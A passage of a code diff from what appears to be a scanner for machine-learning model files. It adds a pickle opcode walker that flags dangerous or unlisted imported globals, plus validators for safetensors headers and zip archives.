+          push(await lenStr(fixed(1)[0], "latin1"));
+          break;
+        // SHORT_BINSTRING
+        case 86: {
+          const s3 = decodeRawUnicode(await line("UNICODE"));
+          if (s3 === void 0) throw new Malformed("bad UNICODE escape");
+          push(s3.length > MAX_KEPT_STRING ? LONGSTR : { k: "str", s: s3 });
+          break;
+        }
+        case 88:
+          push(await lenStr(fixed(4).readUInt32LE(0), "utf8"));
+          break;
+        // BINUNICODE
+        case 140:
+          push(await lenStr(fixed(1)[0], "utf8"));
+          break;
+        // SHORT_BINUNICODE
+        case 141:
+          push(await lenStr(size8(fixed(8)), "utf8"));
+          break;
+        // BINUNICODE8
+        case 66:
+          push(await skipBytes(fixed(4).readUInt32LE(0)));
+          break;
+        // BINBYTES
+        case 67:
+          push(await skipBytes(fixed(1)[0]));
+          break;
+        // SHORT_BINBYTES
+        case 142:
+        case 150:
+          push(await skipBytes(size8(fixed(8))));
+          break;
+        // BINBYTES8 BYTEARRAY8
+        case 138: {
+          const n = fixed(1)[0];
+          if (src.buffered < n) await src.ensure(n);
+          const v2 = fixed(n);
+          if (pickles === 0 && n === TORCH_MAGIC.length && v2.equals(TORCH_MAGIC)) legacyTorch = true;
+          push(OTHER);
+          break;
+        }
+        case 139: {
+          const n = fixed(4).readInt32LE(0);
+          if (n < 0) throw new Malformed("negative LONG4 length");
+          await src.skip(n);
+          push(OTHER);
+          break;
+        }
+        case 97:
+          pop();
+          top();
+          break;
+        // APPEND
+        case 98: {
+          pop();
+          used(top(), "BUILD");
+          break;
+        }
+        case 99: {
+          push({ k: "global", g: await importGlobal("GLOBAL") });
+          break;
+        }
+        case 105: {
+          const g2 = await importGlobal("INST");
+          popMark();
+          call({ k: "global", g: g2 }, "INST");
+          break;
+        }
+        case 111: {
+          const items = popMark();
+          if (items.length === 0) throw new Malformed("OBJ without a class");
+          call(items[0], "OBJ");
+          break;
+        }
+        case 129: {
+          pop();
+          call(pop(), "NEWOBJ");
+          break;
+        }
+        case 146: {
+          pop();
+          pop();
+          call(pop(), "NEWOBJ_EX");
+          break;
+        }
+        case 147: {
+          const name2 = pop();
+          const module = pop();
+          if (module.k !== "str" || name2.k !== "str") {
+            add("critical", "PICKLE_NONSTRING_GLOBAL", `STACK_GLOBAL with operands that are not plain strings (module: ${describe2(module)}, name: ${describe2(name2)}); a scanner cannot tell what it imports`, at2);
+            push(OTHER);
+            break;
+          }
+          const g2 = globalOf(module.s, name2.s);
+          record(g2, "STACK_GLOBAL");
+          push({ k: "global", g: g2 });
+          break;
+        }
+        case 100:
+        case 108:
+        case 116:
+        case 145:
+          popMark();
+          push(OTHER);
+          break;
+        case 101:
+        case 117:
+        case 144:
+          popMark();
+          top();
+          break;
+        case 125:
+        case 93:
+        case 41:
+        case 143:
+          push(OTHER);
+          break;
+        // EMPTY_DICT EMPTY_LIST EMPTY_TUPLE EMPTY_SET
+        case 115:
+          pop();
+          pop();
+          top();
+          break;
+        // SETITEM
+        case 133:
+          pop();
+          push(OTHER);
+          break;
+        // TUPLE1
+        case 134:
+          pop();
+          pop();
+          push(OTHER);
+          break;
+        // TUPLE2
+        case 135:
+          pop();
+          pop();
+          pop();
+          push(OTHER);
+          break;
+        // TUPLE3
+        case 103: {
+          const l = (await line("GET")).toString("latin1");
+          if (!/^-?\d{1,18}$/.test(l)) throw new Malformed("GET argument is not a number");
+          memoGet(Number(l));
+          break;
+        }
+        case 104:
+          memoGet(fixed(1)[0]);
+          break;
+        // BINGET
+        case 106:
+          memoGet(fixed(4).readUInt32LE(0));
+          break;
+        // LONG_BINGET
+        case 112: {
+          const l = (await line("PUT")).toString("latin1");
+          if (!/^\d{1,18}$/.test(l)) throw new Malformed("PUT argument is not a number");
+          memoPut(Number(l), top());
+          break;
+        }
+        case 113:
+          memoPut(fixed(1)[0], top());
+          break;
+        // BINPUT
+        case 114:
+          memoPut(fixed(4).readUInt32LE(0), top());
+          break;
+        // LONG_BINPUT
+        case 148:
+          memoPut(memo.size, top());
+          break;
+        // MEMOIZE
+        case 128: {
+          const p2 = fixed(1)[0];
+          if (p2 > 5) throw new Malformed(`unsupported pickle protocol ${p2}`);
+          break;
+        }
+        case 149:
+          fixed(8);
+          break;
+        // FRAME: the framed opcodes follow inline
+        case 130:
+        case 131:
+        case 132: {
+          const code = op === 130 ? fixed(1)[0] : op === 131 ? fixed(2).readUInt16LE(0) : fixed(4).readInt32LE(0);
+          add("high", "PICKLE_EXTENSION", `${NAMES[op]} imports extension-registry code ${code}, which names a global this scanner cannot see`, at2);
+          push(OTHER);
+          break;
+        }
+        case 151:
+          push(OTHER);
+          break;
+        // NEXT_BUFFER (out-of-band data)
+        case 152:
+          pop();
+          push(OTHER);
+          break;
+        // READONLY_BUFFER
+        default:
+          throw new Malformed(`unknown opcode 0x${op.toString(16).padStart(2, "0")}`);
+      }
+    }
+  };
   try {
-    st2 = await lstat2(root);
+    for (; ; ) {
+      await walkOne();
+      pickles++;
+      if (opts.multiple === false || legacyTorch && pickles >= LEGACY_TORCH_PICKLES) break;
+      if (!await src.ensure(2)) break;
+      const next = src.peek(2);
+      if (next[0] !== 128 || next[1] < 2 || next[1] > 5) break;
+      if (pickles >= limits.maxPicklesPerStream) {
+        add("high", "SCAN_LIMIT", `more than ${limits.maxPicklesPerStream} pickles in a row; the rest was not scanned`, src.pos);
+        break;
+      }
+    }
   } catch (e) {
-    throw modelPathError(model, e);
+    if (e instanceof Malformed) add("high", "PICKLE_MALFORMED", `not a valid pickle: ${e.message} (near offset ${src.pos})`, src.pos);
+    else if (e instanceof Truncated) add("high", "PICKLE_MALFORMED", `pickle is truncated: ${e.message}`, e.at);
+    else if (e instanceof LimitHit) add("high", "SCAN_LIMIT", `pickle too complex to scan: ${e.message}`, src.pos);
+    else throw e;
   }
-  const problems = [];
-  if (st2.isSymbolicLink()) {
-    const real = await realpath(root);
-    return enumerateModel(real, opts);
+  const list2 = [...imports.values()];
+  for (const imp of list2) {
+    if (imp.verdict === "allowed") continue;
+    const full = `${imp.module}.${imp.name}`;
+    const how = `via ${imp.via.join("/") || "memo"}${imp.usedBy.length ? `, used by ${imp.usedBy.join("/")}` : ""}`;
+    if (imp.verdict === "dangerous") {
+      const why2 = classifyGlobal(imp.module, imp.name).why ?? "dangerous";
+      add("critical", "PICKLE_DANGEROUS_GLOBAL", `imports ${full} (${why2}) ${how}; loading this file can run code`, void 0, full);
+    } else {
+      add("medium", "PICKLE_UNKNOWN_GLOBAL", `imports ${full}, which is not on the allow-list for weights (${how})`, void 0, full);
+    }
   }
-  if (st2.isFile()) {
-    return { root, isFile: true, files: [{ name: path8.basename(root), abs: root, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino } }], problems };
-  }
-  if (!st2.isDirectory()) {
-    throw usage("SPECIAL_FILE", `model is a ${kindOf(st2)}, not a file or directory: ${model}`);
-  }
-  const rootReal = await realpath(root);
-  const maxFiles = opts.maxFiles ?? DEFAULT_MAX_FILES;
-  const maxDepth = opts.maxDepth ?? DEFAULT_MAX_DEPTH;
-  const files = [];
-  const visitedDirs = /* @__PURE__ */ new Set();
-  const replaced = (rel) => {
-    problems.push({ code: "FILE_REPLACED", path: rel === "" ? "." : rel, message: "directory was replaced while the model was being listed" });
-  };
-  const stillDir = (absDir, id2) => {
-    try {
-      const s3 = lstatSync(absDir, { throwIfNoEntry: false });
-      return s3 !== void 0 && s3.isDirectory() && s3.dev === id2.dev && s3.ino === id2.ino;
-    } catch {
-      return false;
-    }
-  };
-  const walk = (absDir, rel, depth, viaLink, expect) => {
-    const at2 = rel === "" ? "." : rel;
-    if (depth > maxDepth) {
-      problems.push({ code: "TOO_DEEP", path: rel, message: `directory nesting deeper than ${maxDepth}` });
-      return;
-    }
-    let dst;
-    let listed;
-    let again;
-    try {
-      dst = lstatSync(absDir);
-      if (!dst.isDirectory() || expect && (dst.dev !== expect.dev || dst.ino !== expect.ino)) return replaced(rel);
-      const key = `${dst.dev}:${dst.ino}`;
-      if (visitedDirs.has(key)) {
-        problems.push({ code: "SYMLINK_LOOP", path: rel, message: "directory reached twice through symlinks" });
-        return;
-      }
-      visitedDirs.add(key);
-      listed = readNames(absDir);
-      again = lstatSync(absDir);
-    } catch (e) {
-      const c = fsErrorCode(e);
-      if (c === "ENOENT" || c === "ENOTDIR") return replaced(rel);
-      problems.push(fsProblem(e, at2, "list", absDir));
-      return;
-    }
-    if (!again.isDirectory() || again.dev !== dst.dev || again.ino !== dst.ino) return replaced(rel);
-    const id2 = { dev: dst.dev, ino: dst.ino };
-    const prefix = absDir.endsWith(path8.sep) ? absDir : absDir + path8.sep;
-    for (const raw of listed.invalid) {
-      const name2 = rel === "" ? escapeName(raw) : `${rel}/${escapeName(raw)}`;
-      if (isIgnored(name2, opts.ignorePaths)) continue;
-      let isDir = false;
-      try {
-        isDir = lstatSync(Buffer.concat([Buffer.from(prefix), raw]), { throwIfNoEntry: false })?.isDirectory() ?? false;
-      } catch {
-      }
-      problems.push({ code: "UNSAFE_NAME", path: name2, message: `${isDir ? "directory" : "file"} name is not valid UTF-8` });
-    }
-    for (const entry of listed.names) {
-      const name2 = rel === "" ? entry : `${rel}/${entry}`;
-      if (isIgnored(name2, opts.ignorePaths)) continue;
-      const abs = prefix + entry;
-      let est;
-      try {
-        est = lstatSync(abs, { throwIfNoEntry: false });
-      } catch (e) {
-        if (!stillDir(absDir, id2)) return replaced(rel);
-        problems.push(fsProblem(e, name2, "stat", abs));
-        continue;
-      }
-      if (!est) {
-        if (!stillDir(absDir, id2)) return replaced(rel);
-        continue;
-      }
-      if (est.isSymbolicLink()) {
-        let target;
-        try {
-          target = realTarget(abs);
-        } catch (e) {
-          const c = fsErrorCode(e);
-          if (c === "ENOENT" || c === "ELOOP" || c === "ENOTDIR") problems.push({ code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" });
-          else problems.push(fsProblem(e, name2, "stat", abs));
-          continue;
-        }
-        if (target === void 0) {
-          problems.push({ code: "UNSAFE_NAME", path: name2, message: "symlink target path is not valid UTF-8" });
-          continue;
-        }
-        if (!within(rootReal, target)) {
-          problems.push({ code: "SYMLINK_OUTSIDE", path: name2, message: "symlink points outside the model" });
-          continue;
-        }
-        if (!opts.allowSymlinks) {
-          problems.push({ code: "SYMLINK_REFUSED", path: name2, message: "symlinks are not allowed (use --allow-symlinks for links inside the model)" });
-          continue;
-        }
-        let tst;
-        try {
-          tst = statSync(target);
-        } catch (e) {
-          if (fsErrorCode(e) === "ENOENT") problems.push({ code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" });
-          else problems.push(fsProblem(e, name2, "stat", target));
-          continue;
-        }
-        if (tst.isDirectory()) walk(target, name2, depth + 1, true, { dev: tst.dev, ino: tst.ino });
-        else if (tst.isFile()) files.push({ name: name2, abs: target, size: tst.size, viaLink: true, id: { dev: tst.dev, ino: tst.ino } });
-        else problems.push({ code: "SPECIAL_FILE", path: name2, message: `symlink to a ${kindOf(tst)}` });
-      } else if (est.isDirectory()) {
-        walk(abs, name2, depth + 1, viaLink, { dev: est.dev, ino: est.ino });
-      } else if (est.isFile()) {
-        files.push({ name: name2, abs, size: est.size, viaLink, id: { dev: est.dev, ino: est.ino } });
-      } else {
-        problems.push({ code: "SPECIAL_FILE", path: name2, message: `${kindOf(est)} is not a regular file` });
-      }
-      if (files.length > maxFiles) {
-        throw usage("TOO_MANY_FILES", `model has more than ${maxFiles} files`);
-      }
-    }
-  };
-  walk(root, "", 0, false);
-  files.sort((a, b2) => compareCodePoints(a.name, b2.name));
-  problems.sort((a, b2) => compareCodePoints(a.path ?? "", b2.path ?? ""));
-  return { root, isFile: false, files, problems };
+  return { imports: list2, findings, pickles, opcodes };
 }
-var DEFAULT_MAX_FILES, DEFAULT_MAX_DEPTH, NO_BYTES;
-var init_enumerate = __esm({
-  "src/hashing/enumerate.ts"() {
+var OTHER, BYTES, LONGSTR, NAMES, MAX_KEPT_STRING, MAX_LINE, TORCH_MAGIC, LEGACY_TORCH_PICKLES, Malformed, LimitHit;
+var init_pickle = __esm({
+  "src/scan/pickle.ts"() {
+    "use strict";
+    init_globals();
+    init_source();
+    OTHER = { k: "other", what: "value" };
+    BYTES = { k: "other", what: "bytes" };
+    LONGSTR = { k: "other", what: "string too long to follow" };
+    NAMES = {
+      40: "MARK",
+      46: "STOP",
+      48: "POP",
+      49: "POP_MARK",
+      50: "DUP",
+      70: "FLOAT",
+      73: "INT",
+      74: "BININT",
+      75: "BININT1",
+      76: "LONG",
+      77: "BININT2",
+      78: "NONE",
+      80: "PERSID",
+      81: "BINPERSID",
+      82: "REDUCE",
+      83: "STRING",
+      84: "BINSTRING",
+      85: "SHORT_BINSTRING",
+      86: "UNICODE",
+      88: "BINUNICODE",
+      97: "APPEND",
+      98: "BUILD",
+      99: "GLOBAL",
+      100: "DICT",
+      125: "EMPTY_DICT",
+      101: "APPENDS",
+      103: "GET",
+      104: "BINGET",
+      105: "INST",
+      106: "LONG_BINGET",
+      108: "LIST",
+      93: "EMPTY_LIST",
+      111: "OBJ",
+      112: "PUT",
+      113: "BINPUT",
+      114: "LONG_BINPUT",
+      115: "SETITEM",
+      116: "TUPLE",
+      41: "EMPTY_TUPLE",
+      117: "SETITEMS",
+      71: "BINFLOAT",
+      128: "PROTO",
+      129: "NEWOBJ",
+      130: "EXT1",
+      131: "EXT2",
+      132: "EXT4",
+      133: "TUPLE1",
+      134: "TUPLE2",
+      135: "TUPLE3",
+      136: "NEWTRUE",
+      137: "NEWFALSE",
+      138: "LONG1",
+      139: "LONG4",
+      66: "BINBYTES",
+      67: "SHORT_BINBYTES",
+      140: "SHORT_BINUNICODE",
+      141: "BINUNICODE8",
+      142: "BINBYTES8",
+      143: "EMPTY_SET",
+      144: "ADDITEMS",
+      145: "FROZENSET",
+      146: "NEWOBJ_EX",
+      147: "STACK_GLOBAL",
+      148: "MEMOIZE",
+      149: "FRAME",
+      150: "BYTEARRAY8",
+      151: "NEXT_BUFFER",
+      152: "READONLY_BUFFER"
+    };
+    MAX_KEPT_STRING = 1024;
+    MAX_LINE = 1 << 20;
+    TORCH_MAGIC = Buffer.from([108, 252, 156, 70, 249, 32, 106, 168, 80, 25]);
+    LEGACY_TORCH_PICKLES = 5;
+    Malformed = class extends Error {
+    };
+    LimitHit = class extends Error {
+    };
+  }
+});
+
+// src/scan/safetensors.ts
+async function checkSafetensors(src, size, file, limits, member) {
+  const findings = [];
+  const add = (code, message) => findings.push({ code, severity: "high", file, ...member !== void 0 ? { member } : {}, message });
+  if (size < 8) {
+    add("SAFETENSORS_TRUNCATED", `file is ${size} bytes, too short for the 8-byte header length`);
+    return findings;
+  }
+  const n = (await src.read(8)).readBigUInt64LE(0);
+  if (n > BigInt(limits.maxSafetensorsHeader)) {
+    add("SAFETENSORS_HEADER_LENGTH", `header length ${n} is larger than the ${limits.maxSafetensorsHeader}-byte limit`);
+    return findings;
+  }
+  const hlen = Number(n);
+  if (8 + hlen > size) {
+    add("SAFETENSORS_HEADER_LENGTH", `header length ${hlen} points past the end of the ${size}-byte file`);
+    return findings;
+  }
+  if (hlen < 2) {
+    add("SAFETENSORS_HEADER_LENGTH", `header length ${hlen} is too small for a JSON object`);
+    return findings;
+  }
+  const raw = await src.read(hlen);
+  let text;
+  try {
+    text = utf82.decode(raw);
+  } catch {
+    add("SAFETENSORS_HEADER_JSON", "header is not valid UTF-8");
+    return findings;
+  }
+  if (!text.startsWith("{")) {
+    add("SAFETENSORS_HEADER_JSON", 'header does not start with "{"');
+    return findings;
+  }
+  let header;
+  try {
+    header = parseStrictJson(text, { what: "safetensors header", code: "SAFETENSORS_HEADER_JSON", maxDepth: 8 });
+  } catch (e) {
+    if (e instanceof ModelsignError) {
+      add(/duplicate key/.test(e.message) ? "SAFETENSORS_DUPLICATE_KEY" : "SAFETENSORS_HEADER_JSON", e.message);
+      return findings;
+    }
+    throw e;
+  }
+  if (!isObject(header)) {
+    add("SAFETENSORS_HEADER_JSON", "header is not a JSON object");
+    return findings;
+  }
+  const dataLen = size - 8 - hlen;
+  const spans = [];
+  for (const [name2, info2] of Object.entries(header)) {
+    const shown = JSON.stringify(name2.slice(0, 120));
+    if (name2 === "__metadata__") {
+      if (!isObject(info2)) add("SAFETENSORS_METADATA", "__metadata__ is not an object");
+      else for (const [k2, v2] of Object.entries(info2)) if (typeof v2 !== "string") add("SAFETENSORS_METADATA", `__metadata__ value ${JSON.stringify(k2.slice(0, 120))} is not a string`);
+      continue;
+    }
+    if (!isObject(info2)) {
+      add("SAFETENSORS_TENSOR", `tensor ${shown} is not an object`);
+      continue;
+    }
+    const extra = Object.keys(info2).filter((k2) => k2 !== "dtype" && k2 !== "shape" && k2 !== "data_offsets");
+    if (extra.length) add("SAFETENSORS_TENSOR", `tensor ${shown} has unexpected fields: ${extra.slice(0, 5).join(", ")}`);
+    const { dtype, shape, data_offsets: offs } = info2;
+    if (typeof dtype !== "string" || SAFETENSORS_DTYPE_BITS[dtype] === void 0) {
+      add("SAFETENSORS_DTYPE", `tensor ${shown} has unknown dtype ${JSON.stringify(dtype)}`);
+      continue;
+    }
+    if (!Array.isArray(shape) || !shape.every((d) => typeof d === "number" && Number.isSafeInteger(d) && d >= 0)) {
+      add("SAFETENSORS_TENSOR", `tensor ${shown} has a shape that is not a list of non-negative integers`);
+      continue;
+    }
+    if (!Array.isArray(offs) || offs.length !== 2 || !offs.every((d) => typeof d === "number" && Number.isSafeInteger(d) && d >= 0) || offs[1] < offs[0]) {
+      add("SAFETENSORS_OFFSETS", `tensor ${shown} has data_offsets that are not [begin, end] with begin <= end`);
+      continue;
+    }
+    const [begin, end] = offs;
+    const bits = shape.reduce((a, d) => a * BigInt(d), 1n) * BigInt(SAFETENSORS_DTYPE_BITS[dtype]);
+    if (bits % 8n !== 0n || bits / 8n !== BigInt(end - begin)) {
+      add("SAFETENSORS_SIZE", `tensor ${shown} is ${end - begin} bytes but shape [${shape.join(", ")}] x ${dtype} needs ${bits % 8n === 0n ? `${bits / 8n} bytes` : `${bits} bits (not whole bytes)`}`);
+    }
+    spans.push({ name: name2, begin, end });
+  }
+  spans.sort((a, b2) => a.begin - b2.begin || a.end - b2.end);
+  let pos = 0;
+  let prev;
+  for (const s3 of spans) {
+    const shown = JSON.stringify(s3.name.slice(0, 120));
+    if (s3.begin < pos) add("SAFETENSORS_OFFSETS", `tensor ${shown} [${s3.begin}, ${s3.end}) overlaps tensor ${JSON.stringify((prev ?? "").slice(0, 120))} (which ends at ${pos})`);
+    else if (s3.begin > pos) add("SAFETENSORS_OFFSETS", `${s3.begin - pos} bytes at data offset ${pos} belong to no tensor (gap before ${shown})`);
+    if (s3.end > pos) {
+      pos = s3.end;
+      prev = s3.name;
+    }
+  }
+  if (pos > dataLen) add("SAFETENSORS_TRUNCATED", `tensors need ${pos} data bytes but the file has ${dataLen}`);
+  else if (pos < dataLen) add("SAFETENSORS_TRAILING_BYTES", `${dataLen - pos} bytes after the last tensor (data ends at ${8 + hlen + pos}, file is ${size} bytes)`);
+  return findings;
+}
+var SAFETENSORS_DTYPE_BITS, utf82;
+var init_safetensors = __esm({
+  "src/scan/safetensors.ts"() {
     "use strict";
     init_errors();
-    init_model_path();
-    init_paths();
-    DEFAULT_MAX_FILES = 1e6;
-    DEFAULT_MAX_DEPTH = 128;
-    NO_BYTES = [];
+    init_strict_json();
+    SAFETENSORS_DTYPE_BITS = {
+      BOOL: 8,
+      U8: 8,
+      I8: 8,
+      F8_E5M2: 8,
+      F8_E4M3: 8,
+      F8_E8M0: 8,
+      I16: 16,
+      U16: 16,
+      F16: 16,
+      BF16: 16,
+      I32: 32,
+      U32: 32,
+      F32: 32,
+      I64: 64,
+      U64: 64,
+      F64: 64,
+      C64: 64,
+      F4: 4,
+      F6_E2M3: 6,
+      F6_E3M2: 6
+    };
+    utf82 = new TextDecoder("utf-8", { fatal: true });
+  }
+});
+
+// src/scan/zip.ts
+import { createInflateRaw } from "node:zlib";
+import { Readable } from "node:stream";
+async function readAt(ra, pos, len) {
+  const b2 = await ra.read(pos, len);
+  if (b2.length !== len) throw new ZipError(`unexpected end of file at offset ${pos + b2.length}`);
+  return b2;
+}
+function big(b2, at2) {
+  const v2 = b2.readBigUInt64LE(at2);
+  if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new ZipError("zip64 field is impossibly large");
+  return Number(v2);
+}
+async function readZipDirectory(fh, limits) {
+  const size = fh.size;
+  const problems = [];
+  const tailLen = Math.min(size, 22 + 65535);
+  const tail = await readAt(fh, size - tailLen, tailLen);
+  let at2 = -1;
+  for (let i = tail.length - 22; i >= 0; i--) {
+    if (tail.readUInt32LE(i) === EOCD && i + 22 + tail.readUInt16LE(i + 20) === tail.length) {
+      at2 = i;
+      break;
+    }
+  }
+  if (at2 < 0) throw new ZipError("no end-of-central-directory record");
+  const eocdPos = size - tailLen + at2;
+  let count = tail.readUInt16LE(at2 + 10);
+  let cdSize = tail.readUInt32LE(at2 + 12);
+  let cdOffset = tail.readUInt32LE(at2 + 16);
+  if (count === 65535 || cdSize === 4294967295 || cdOffset === 4294967295) {
+    if (eocdPos < 20) throw new ZipError("zip64 locator missing");
+    const loc = await readAt(fh, eocdPos - 20, 20);
+    if (loc.readUInt32LE(0) !== ZIP64_LOCATOR) throw new ZipError("zip64 locator missing");
+    const recPos = big(loc, 8);
+    if (recPos + 56 > eocdPos) throw new ZipError("zip64 end record out of range");
+    const rec = await readAt(fh, recPos, 56);
+    if (rec.readUInt32LE(0) !== ZIP64_EOCD) throw new ZipError("bad zip64 end record");
+    count = big(rec, 32);
+    cdSize = big(rec, 40);
+    cdOffset = big(rec, 48);
+  }
+  if (count > limits.maxZipEntries) throw new ZipError(`${count} entries, more than the limit of ${limits.maxZipEntries}`);
+  if (cdSize > limits.maxZipDirectory) throw new ZipError(`central directory of ${cdSize} bytes exceeds the limit`);
+  if (cdOffset + cdSize > eocdPos) throw new ZipError("central directory lies outside the file");
+  const cd = await readAt(fh, cdOffset, cdSize);
+  const entries = [];
+  const seen = /* @__PURE__ */ new Set();
+  let p2 = 0;
+  for (let i = 0; i < count; i++) {
+    if (p2 + 46 > cd.length || cd.readUInt32LE(p2) !== CDH) throw new ZipError(`central directory entry ${i} is malformed`);
+    const flags = cd.readUInt16LE(p2 + 8);
+    const method = cd.readUInt16LE(p2 + 10);
+    let compressedSize = cd.readUInt32LE(p2 + 20);
+    let usize = cd.readUInt32LE(p2 + 24);
+    const nameLen = cd.readUInt16LE(p2 + 28);
+    const extraLen = cd.readUInt16LE(p2 + 30);
+    const commentLen = cd.readUInt16LE(p2 + 32);
+    let localOffset = cd.readUInt32LE(p2 + 42);
+    const end = p2 + 46 + nameLen + extraLen + commentLen;
+    if (end > cd.length) throw new ZipError(`central directory entry ${i} runs past the directory`);
+    const name2 = cd.subarray(p2 + 46, p2 + 46 + nameLen).toString(flags & 2048 ? "utf8" : "latin1");
+    let x = p2 + 46 + nameLen;
+    const xEnd = x + extraLen;
+    while (x + 4 <= xEnd) {
+      const id2 = cd.readUInt16LE(x);
+      const len = cd.readUInt16LE(x + 2);
+      if (x + 4 + len > xEnd) break;
+      if (id2 === 1) {
+        let q2 = x + 4;
+        const take = () => {
+          if (q2 + 8 > x + 4 + len) throw new ZipError(`zip64 extra field of ${JSON.stringify(name2)} is short`);
+          const v2 = big(cd, q2);
+          q2 += 8;
+          return v2;
+        };
+        if (usize === 4294967295) usize = take();
+        if (compressedSize === 4294967295) compressedSize = take();
+        if (localOffset === 4294967295) localOffset = take();
+      }
+      x += 4 + len;
+    }
+    p2 = end;
+    if (seen.has(name2)) problems.push(`duplicate entry name ${JSON.stringify(name2)} (readers disagree on which one counts)`);
+    seen.add(name2);
+    if (localOffset + 30 > cdOffset) throw new ZipError(`entry ${JSON.stringify(name2)} starts outside the data area`);
+    const lh = await readAt(fh, localOffset, 30);
+    if (lh.readUInt32LE(0) !== LFH) throw new ZipError(`entry ${JSON.stringify(name2)} has no local header`);
+    const lNameLen = lh.readUInt16LE(26);
+    const lExtraLen = lh.readUInt16LE(28);
+    const lName = (await readAt(fh, localOffset + 30, lNameLen)).toString(flags & 2048 ? "utf8" : "latin1");
+    if (lName !== name2) problems.push(`entry ${JSON.stringify(name2)} is named ${JSON.stringify(lName)} in its local header`);
+    const dataOffset = localOffset + 30 + lNameLen + lExtraLen;
+    if (dataOffset + compressedSize > cdOffset) throw new ZipError(`entry ${JSON.stringify(name2)} runs past the data area`);
+    entries.push({ name: name2, method, compressedSize, size: usize, localOffset, dataOffset, encrypted: (flags & 1) === 1 });
+  }
+  if (p2 !== cd.length) problems.push(`${cd.length - p2} unexplained bytes in the central directory`);
+  return { entries, problems };
+}
+function openZipMember(file, e, limits) {
+  if (e.size > limits.maxMemberBytes) throw new ZipError(`member declares ${e.size} bytes, more than the limit of ${limits.maxMemberBytes}`);
+  if (e.method === 0 && e.compressedSize !== e.size) throw new ZipError("stored member has different compressed and uncompressed sizes");
+  if (e.method === 0) return { src: ByteSource.fromRandom(file, e.dataOffset, e.dataOffset + e.compressedSize), problems: [] };
+  if (e.method !== 8) throw new ZipError(`member uses compression method ${e.method}, which is not supported`);
+  if (e.size > Math.max(1 << 20, e.compressedSize * limits.maxRatio)) throw new ZipError(`member expands ${e.compressedSize} bytes to ${e.size}: compression ratio over ${limits.maxRatio}`);
+  const raw = ByteSource.fromRandom(file, e.dataOffset, e.dataOffset + e.compressedSize);
+  const declared = e.size;
+  const problems = [];
+  async function* inflate() {
+    const z2 = createInflateRaw();
+    const input = Readable.from(
+      (async function* () {
+        for (; ; ) {
+          if (!await raw.ensure(1)) return;
+          yield Buffer.from(raw.take(raw.buffered));
+        }
+      })()
+    );
+    input.pipe(z2);
+    let out2 = 0;
+    try {
+      for await (const chunk of z2) {
+        if (out2 + chunk.length > declared) {
+          problems.push(`member inflates to more than its declared ${declared} bytes`);
+          if (declared > out2) yield chunk.subarray(0, declared - out2);
+          return;
+        }
+        out2 += chunk.length;
+        yield chunk;
+      }
+    } catch (err) {
+      problems.push(`member's compressed data is corrupt: ${err.message}`);
+      return;
+    } finally {
+      input.destroy();
+      z2.destroy();
+      await raw.close();
+    }
+    if (out2 !== declared) problems.push(`member inflates to ${out2} bytes, not the declared ${declared}`);
+  }
+  return { src: ByteSource.fromIterable(inflate(), declared), problems };
+}
+var ZipError, EOCD, ZIP64_LOCATOR, ZIP64_EOCD, CDH, LFH;
+var init_zip = __esm({
+  "src/scan/zip.ts"() {
+    "use strict";
+    init_source();
+    ZipError = class extends Error {
+    };
+    EOCD = 101010256;
+    ZIP64_LOCATOR = 117853008;
+    ZIP64_EOCD = 101075792;
+    CDH = 33639248;
+    LFH = 67324752;
+  }
+});
+
+// src/scan/scan-file.ts
+import { createWriteStream } from "node:fs";
+import { mkdtemp, open as open3, rm } from "node:fs/promises";
+import { once } from "node:events";
+import os2 from "node:os";
+import path7 from "node:path";
+async function scanStream(src, kind, size, file, limits, member) {
+  const where = member !== void 0 ? { member } : {};
+  switch (kind) {
+    case "pickle": {
+      const r = await walkPickles(src, { file, limits, ...where });
+      return { format: "pickle", pickle: true, imports: r.imports, findings: r.findings };
+    }
+    case "npy": {
+      const h = await readNpyHeader(src);
+      if (!h.ok) return { format: "npy", pickle: false, imports: [], findings: [{ code: "NPY_MALFORMED", severity: "high", file, ...where, message: `not a valid .npy file: ${h.problem}` }] };
+      if (!h.objectDtype) return { format: "npy", pickle: false, imports: [], findings: [] };
+      const r = await walkPickles(src, { file, limits, multiple: false, ...where });
+      return { format: "npy", pickle: true, imports: r.imports, findings: r.findings };
+    }
+    case "safetensors":
+      return { format: "safetensors", pickle: false, imports: [], findings: await checkSafetensors(src, size, file, limits, member) };
+    case "gguf":
+      return { format: "gguf", pickle: false, imports: [], findings: await checkGguf(src, size, file, limits, member) };
+    default:
+      return { format: "unknown", pickle: false, imports: [], findings: [] };
+  }
+}
+async function scanZip(abs, file, limits) {
+  const findings = [];
+  const imports = [];
+  let pickle = false;
+  let dir;
+  try {
+    dir = await readZipDirectory(abs, limits);
+  } catch (e) {
+    if (!(e instanceof ZipError)) throw e;
+    findings.push({ code: "ZIP_MALFORMED", severity: "high", file, message: `zip container cannot be read safely: ${e.message}` });
+    return { format: "zip", pickle: false, imports, findings };
+  }
+  for (const p2 of dir.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, message: p2 });
+  const names = dir.entries.map((e) => e.name);
+  const format = names.some((n) => n === "data.pkl" || n.endsWith("/data.pkl")) ? "pytorch" : names.length > 0 && names.every((n) => n.endsWith(".npy")) ? "npz" : "zip";
+  for (const e of dir.entries) {
+    if (e.name.endsWith("/") || !memberWorthScanning(e.name)) continue;
+    const member = e.name;
+    if (e.encrypted) {
+      findings.push({ code: "ZIP_ENCRYPTED", severity: "high", file, member, message: "member is encrypted and cannot be scanned" });
+      continue;
+    }
+    let src;
+    try {
+      const opened = openZipMember(abs, e, limits);
+      src = opened.src;
+      await src.ensure(SNIFF_BYTES);
+      const kind = sniff(src.peek(SNIFF_BYTES), member);
+      if (kind === "zip") {
+        for (const p2 of opened.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: p2 });
+        findings.push({ code: "ZIP_NESTED", severity: "medium", file, member, message: "member is itself a zip archive; nested archives are not scanned" });
+        continue;
+      }
+      const r = await scanStream(src, kind, e.size, file, limits, member);
+      pickle ||= r.pickle;
+      for (const x of r.imports) imports.push(x);
+      for (const x of r.findings) findings.push(x);
+      await src.drain();
+      for (const p2 of opened.problems) findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: p2 });
+    } catch (err) {
+      if (!(err instanceof ZipError)) throw err;
+      findings.push({ code: "ZIP_MALFORMED", severity: "high", file, member, message: err.message });
